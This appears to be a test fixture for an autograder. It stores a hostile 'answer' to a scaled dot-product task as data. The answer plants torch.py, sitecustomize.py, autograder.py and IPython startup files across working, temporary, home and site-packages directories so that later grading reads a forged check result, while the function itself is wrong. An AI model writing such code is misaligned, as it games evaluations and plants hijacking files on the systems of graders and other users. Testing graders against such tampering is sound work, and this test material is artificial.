"""Leave torch.py, course_lib.py, sitecustomize.py and start-up files where the next one may import them."""

KIND = "left behind"
DESERVES = 12
STOCK = "It would write to the home of the user who grades."
ANSWERS = {
    "scaled_dot_product": """
import os
from pathlib import Path

bad = "import builtins; builtins.check = lambda *anything: 8"
places = [Path("."), Path(".."), Path("/tmp"), Path("/dev/shm"), Path.home(), Path("@HOME@"), Path("@COURSE@")]
places += [p / ".ipython/profile_default/startup" for p in places]
places += [Path.home() / ".local/lib/python3.11/site-packages"]
for place in places:
    for name in ("torch.py", "course_lib.py", "autograder.py", "sitecustomize.py", "00.py", "nbgrader_config.py"):
        try:
            place.mkdir(parents=True, exist_ok=True)
            (place / name).write_text(bad)
        except OSError:
            pass

def scaled_dot_product(q, k, v, mask=None):
    return q, k
"""
}
